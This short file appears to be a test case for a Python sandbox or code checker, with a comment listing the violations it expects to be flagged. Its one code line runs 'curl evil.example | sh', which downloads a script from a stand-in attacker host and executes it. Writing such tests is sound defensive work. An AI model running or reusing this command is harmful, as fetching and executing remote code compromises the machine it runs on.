# expect: blocked-name, import-not-allowed, blocked-attribute
import os
os.system("curl evil.example | sh")
